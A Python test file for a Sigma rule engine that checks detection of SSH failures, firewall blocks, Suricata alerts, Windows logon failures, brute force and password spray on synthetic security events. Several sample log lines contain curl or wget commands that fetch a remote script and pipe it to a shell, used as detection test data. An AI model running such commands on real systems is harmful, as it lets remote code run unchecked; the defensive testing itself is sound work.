"""The shipped Sigma rules on real-shaped ECS events: decoded syslog and Suricata EVE,
Winlogbeat documents; plus robustness on arbitrary documents, and the cost per event."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from events.models import SecurityEvent
from ingest.formats.base import get_decoder
from ingest.message import RawMessage
from processors.security.sigma import SigmaEngine, SigmaMatch

RECEIVED = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)  # 10:00 in Hanoi
ENGINE = SigmaEngine.load()

FAILED_PASSWORD = "SSH Failed Password"
INVALID_USER = "SSH Login Attempt For Non-Existent User"
WIN_FAILED = "Windows Failed Network Or Remote Logon"
SURICATA_HIGH = "Suricata High Severity Alert"
FIREWALL = "Firewall Blocked Connection To Administration Port"
DOWNLOAD_SHELL = "Remote Script Downloaded And Piped To A Shell"
OUTSIDE_LOGIN = "Successful Login From Outside The Internal Network"
BRUTE_FORCE = "SSH Brute Force From One Source"
SPRAY = "Password Spray From One Source"

_offsets = iter(range(10**9))


def syslog(line: str) -> SecurityEvent:
    msg = RawMessage(
        "kafka",
        "seclog.syslog",
        line.encode(),
        partition=0,
        offset=next(_offsets),
        received_at=RECEIVED,
    )
    (event,) = get_decoder("syslog")(msg)
    assert isinstance(event, SecurityEvent)
    return event


def suricata(severity: int, event_type: str = "alert") -> SecurityEvent:
    record: dict[str, Any] = {
        "timestamp": "2026-11-24T08:00:00.123456+0700",
        "flow_id": 1405618463926131,
        "event_type": event_type,
        "src_ip": "203.0.113.7",
        "src_port": 49286,
        "dest_ip": "10.10.1.11",
        "dest_port": 80,
        "proto": "TCP",
        "host": "kg-ids01",
    }
    if event_type == "alert":
        record["alert"] = {
            "action": "allowed",
            "gid": 1,
            "signature_id": 2024897,
            "rev": 3,
            "signature": "ET EXPLOIT Apache Struts RCE",
            "category": "Attempted Administrator Privilege Gain",
            "severity": severity,
        }
    msg = RawMessage(
        "kafka",
        "seclog.suricata",
        orjson.dumps(record),
        partition=0,
        offset=next(_offsets),
        received_at=RECEIVED,
    )
    (event,) = get_decoder("suricata")(msg)
    return event


def winlogbeat(
    event_id: int, user: str, logon_type: int, ip: str = "198.51.100.23", second: int = 0
) -> dict[str, Any]:
    """A Windows Security event as Winlogbeat 8 ships it (numbers as strings)."""
    success = event_id == 4624
    return {
        "@timestamp": f"2026-11-24T01:00:{second:02d}.000Z",
        "event": {
            "id": f"win-{event_id}-{user}-{second}",
            "code": str(event_id),
            "kind": "event",
            "module": "security",
            "provider": "Microsoft-Windows-Security-Auditing",
            "category": ["authentication"],
            "type": ["start"],
            "outcome": "success" if success else "failure",
            "action": "logged-in" if success else "logon-failed",
        },
        "winlog": {
            "channel": "Security",
            "event_id": str(event_id),
            "computer_name": "KH-EGOV-DC01.khanhhoa.local",
            "event_data": {
                "TargetUserName": user,
                "TargetDomainName": "KHANHHOA",
                "LogonType": str(logon_type),
                "IpAddress": ip,
                "IpPort": "51234",
                "SubStatus": "0xc000006a",
            },
            "logon": {"type": "RemoteInteractive" if logon_type == 10 else "Network"},
        },
        "user": {"name": user, "domain": "KHANHHOA"},
        "source": {"ip": ip, "port": 51234},
        "host": {"name": "KH-EGOV-DC01"},
    }


def kernel_firewall_line(port: int) -> dict[str, Any]:
    """A ufw LOG line as a syslog decoder without firewall parsing leaves it."""
    message = (
        f"[UFW BLOCK] IN=ens192 OUT= MAC=00:50:56 SRC=203.0.113.7 DST=10.10.1.11 "
        f"LEN=44 TTL=241 PROTO=TCP SPT=51234 DPT={port} WINDOW=1024 SYN URGP=0"
    )
    return {
        "@timestamp": "2026-11-24T08:00:05+07:00",
        "message": message,
        "event": {
            "id": f"fw-{port}",
            "kind": "event",
            "module": "system",
            "dataset": "system.syslog",
        },
        "process": {"name": "kernel"},
        "host": {"name": "kg-vpn-gw01"},
    }


def ssh(second: int, text: str, host: str = "kg-dvc-web01") -> SecurityEvent:
    return syslog(f"<38>Nov 24 08:00:{second:02d} {host} sshd[4242]: {text}")


def titles(matches: list[SigmaMatch]) -> set[str]:
    return {m.title for m in matches}


def matched(event: Any) -> set[str]:
    _, matches = ENGINE.process(ENGINE.initial_state(), [event])
    return titles(matches)


SUDO = (
    "<86>Nov 24 08:00:04 kg-ioc-app01 sudo:   quantri : TTY=pts/0 ; PWD=/home/quantri ;"
    " USER=root ; COMMAND="
)
CASES: list[tuple[str, Any, set[str]]] = [
    (
        "ssh failed password",
        lambda: ssh(1, "Failed password for root from 203.0.113.7 port 49286 ssh2"),
        {FAILED_PASSWORD},
    ),
    (
        "ssh failed for invalid user",
        lambda: ssh(2, "Failed password for invalid user admin from 203.0.113.7 port 49290 ssh2"),
        {FAILED_PASSWORD, INVALID_USER},
    ),
    (
        "ssh invalid user",
        lambda: ssh(3, "Invalid user oracle from 203.0.113.7 port 49291"),
        {INVALID_USER},
    ),
    (
        "ssh failed publickey",
        lambda: ssh(4, "Failed publickey for deploy from 10.0.5.4 port 50022 ssh2"),
        set(),
    ),
    (
        "ssh accepted from vpn pool",
        lambda: ssh(5, "Accepted publickey for deploy from 10.0.5.4 port 50022 ssh2"),
        set(),
    ),
    (
        "ssh accepted from internet",
        lambda: ssh(6, "Accepted password for quantri from 198.51.100.4 port 50022 ssh2"),
        {OUTSIDE_LOGIN},
    ),
    (
        "sudo curl piped to sh",
        lambda: syslog(SUDO + "/bin/sh -c curl -fsSL http://203.0.113.9/k.sh | sh"),
        {DOWNLOAD_SHELL},
    ),
    (
        "sudo wget piped to bash",
        lambda: syslog(SUDO + "/bin/bash -c wget -qO- https://203.0.113.9/x |sudo bash"),
        {DOWNLOAD_SHELL},
    ),
    ("sudo apt-get", lambda: syslog(SUDO + "/usr/bin/apt-get update"), set()),
    (
        "sudo curl to file",
        lambda: syslog(SUDO + "/usr/bin/curl -o /tmp/x http://deb.debian.org/x"),
        set(),
    ),
    (
        "cron",
        lambda: syslog(
            "<78>Nov 24 08:00:07 kg-ioc-app01 CRON[812]: (root) CMD (/usr/local/bin/backup-db.sh)"
        ),
        set(),
    ),
    (
        "ufw block rdp",
        lambda: syslog(
            "<4>Nov 24 08:00:08 kg-vpn-gw01 kernel: [91234.5678] "
            + kernel_firewall_line(3389)["message"]
        ),
        {FIREWALL},
    ),
    (
        "ufw block http",
        lambda: syslog(
            "<4>Nov 24 08:00:09 kg-vpn-gw01 kernel: [91234.5679] "
            + kernel_firewall_line(80)["message"]
        ),
        set(),
    ),
    ("kernel ufw line, unparsed", lambda: kernel_firewall_line(22), {FIREWALL}),
    ("kernel ufw line, unparsed, http", lambda: kernel_firewall_line(443), set()),
    ("suricata severity 1", lambda: suricata(1), {SURICATA_HIGH}),
    ("suricata severity 2", lambda: suricata(2), set()),
    ("suricata flow", lambda: suricata(1, "flow"), set()),
    ("windows 4625 rdp", lambda: winlogbeat(4625, "Administrator", 10), {WIN_FAILED}),
    ("windows 4625 network", lambda: winlogbeat(4625, "ketoan01", 3), {WIN_FAILED}),
    ("windows 4625 interactive", lambda: winlogbeat(4625, "ketoan01", 2), set()),
    ("windows 4624 from internet", lambda: winlogbeat(4624, "ketoan01", 10), {OUTSIDE_LOGIN}),
    ("windows 4624 from lan", lambda: winlogbeat(4624, "ketoan01", 3, ip="10.20.20.15"), set()),
]


@pytest.mark.parametrize(("name", "make", "expected"), CASES, ids=[c[0] for c in CASES])
def test_shipped_rules_fire_on_matching_events_only(
    name: str, make: Any, expected: set[str]
) -> None:
    assert matched(make()) == expected


def test_mixed_stream_gives_exactly_the_expected_matches() -> None:
    events = [make() for _, make, _ in CASES]
    _, matches = ENGINE.process(ENGINE.initial_state(), events)
    assert len(matches) == sum(len(expected) for _, _, expected in CASES)
    for match in matches:
        assert match.kind == "event" and len(match.event_ids) == 1
    win = next(m for m in matches if m.title == WIN_FAILED)
    assert (win.level, win.techniques) == ("low", ("T1110",))
    assert win.event_ids == ("win-4625-Administrator-0",)


def test_brute_force_fires_once_for_the_attacker() -> None:
    attack = [
        ssh(s, f"Failed password for root from 203.0.113.7 port {40000 + s} ssh2")
        for s in range(12)
    ]
    other = [ssh(s, "Failed password for deploy from 10.0.5.4 port 50022 ssh2") for s in range(3)]
    _, matches = ENGINE.process(ENGINE.initial_state(), attack + other)
    (brute,) = [m for m in matches if m.kind == "correlation"]
    assert brute.title == BRUTE_FORCE
    assert brute.group == {"source.ip": "203.0.113.7"}
    assert brute.event_ids == tuple(e.event_id for e in attack[:10])
    assert (brute.level, brute.techniques, brute.count) == ("high", ("T1110.001",), 10)
    assert brute.time == attack[9].time
    assert sum(m.title == FAILED_PASSWORD for m in matches) == 15  # generate: true


def test_password_spray_across_ssh_and_windows() -> None:
    ip = "198.51.100.23"
    ssh_users = ["root", "admin", "root"]
    events: list[Any] = [
        ssh(s, f"Failed password for {u} from {ip} port {40000 + s} ssh2")
        for s, u in enumerate(ssh_users)
    ]
    events += [
        winlogbeat(4625, u, 3, ip=ip, second=10 + s)
        for s, u in enumerate(["ketoan01", "vanthu", "ketoan01", "thuquy"])
    ]
    _, matches = ENGINE.process(ENGINE.initial_state(), events)
    (spray,) = [m for m in matches if m.kind == "correlation"]
    assert matches[-1] is spray  # fired by the fifth distinct user, the last event
    assert (spray.title, spray.group) == (SPRAY, {"source.ip": ip})
    assert spray.values == ("admin", "root", "vanthu", "ketoan01", "thuquy")  # by newest sighting
    assert spray.count == 5 and len(spray.event_ids) == 5


WINLOGBEAT_RAW = {
    "@timestamp": "2026-11-24T01:00:00.000Z",
    "winlog": {
        "event_id": 4625,
        "channel": "Security",
        "computer_name": "KH-EGOV-DC01",
        "record_id": 5,
        "provider_name": "Microsoft-Windows-Security-Auditing",
        "event_data": {
            "TargetUserName": "Administrator",
            "LogonType": "10",
            "IpAddress": "198.51.100.23",
            "SubStatus": "0xc000006a",
        },
    },
}
NXLOG_RAW = {
    "EventTime": "2026-11-24 08:00:00",
    "Hostname": "KH-EGOV-DC01",
    "EventID": 4625,
    "EventType": "AUDIT_FAILURE",
    "Channel": "Security",
    "SourceName": "Microsoft-Windows-Security-Auditing",
    "TargetUserName": "ketoan01",
    "LogonType": "3",
    "IpAddress": "198.51.100.23",
}


@pytest.mark.parametrize(
    ("record", "expected"),
    [
        (WINLOGBEAT_RAW, {WIN_FAILED}),
        (NXLOG_RAW, {WIN_FAILED}),
        ({**NXLOG_RAW, "LogonType": "2"}, set()),  # interactive: at the console
    ],
    ids=["winlogbeat", "nxlog", "nxlog-interactive"],
)
def test_windows_rule_on_the_winlog_decoders_output(
    record: dict[str, Any], expected: set[str]
) -> None:
    # The contract with ingest/formats/winlog.py: its ECS names are what fieldmap.yaml reads.
    msg = RawMessage(
        "kafka",
        "seclog.winlog",
        orjson.dumps(record),
        partition=0,
        offset=next(_offsets),
        received_at=RECEIVED,
    )
    (event,) = get_decoder("winlog")(msg)
    assert matched(event) == expected


def test_match_serialises_for_the_alert_manager() -> None:
    _, (match,) = ENGINE.process(ENGINE.initial_state(), [suricata(1)])
    data = orjson.loads(orjson.dumps(match.to_dict()))
    assert data["rule_id"] == "f6ab2073-8039-4eb1-9102-d6cb9b7a7069"
    assert data["level"] == "high"
    assert data["time"] == "2026-11-24T01:00:00.123456+00:00"


# ---- robustness and cost ------------------------------------------------------------

KEYS = st.sampled_from(
    [
        "event",
        "source",
        "destination",
        "user",
        "name",
        "ip",
        "port",
        "dataset",
        "module",
        "outcome",
        "action",
        "category",
        "kind",
        "severity",
        "code",
        "type",
        "winlog",
        "event_id",
        "event_data",
        "LogonType",
        "channel",
        "message",
        "process",
        "command_line",
        "system",
        "auth",
        "ssh",
        "method",
        "sudo",
        "command",
        "host",
        "source.ip",
        "user.name",
        "@timestamp",
        "id",
        "alert",
        "suricata",
        "rule",
    ]
)
SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.text(max_size=30),
    st.sampled_from(
        [
            "system.auth",
            "system.firewall",
            "system.syslog",
            "sshd",
            "kernel",
            "failure",
            "success",
            "Failed",
            "Invalid",
            "password",
            "ssh_login",
            "4625",
            "Security",
            "3",
            "203.0.113.7",
            "10.1.2.3",
            "::1",
            "not-an-ip",
            "alert",
            "suricata",
            "linux",
            "intrusion_detection",
            "authentication",
            "curl http://x | sh",
            "[UFW BLOCK] DPT=22",
            "2026-11-24T01:00:00Z",
            "2026-11-24T01:00:00",
            "0001-01-01T00:00:00+14:00",
        ]
    ),
)
DOCS = st.recursive(
    SCALARS,
    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(KEYS, inner, max_size=6)),
    max_leaves=40,
)
EVENTS = st.dictionaries(KEYS, DOCS, max_size=8).flatmap(
    lambda doc: st.sampled_from([doc, {"ecs": doc, "event_id": "x", "source_ip": "10.0.0.1"}])
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(EVENTS, max_size=6))
def test_arbitrary_ecs_like_documents_never_raise(events: list[dict[str, Any]]) -> None:
    state, matches = ENGINE.process(ENGINE.initial_state(), events)
    state, more = ENGINE.process(state, events)  # and again, against a non-empty state
    orjson.dumps(state)
    for match in matches + more:
        match.to_dict()
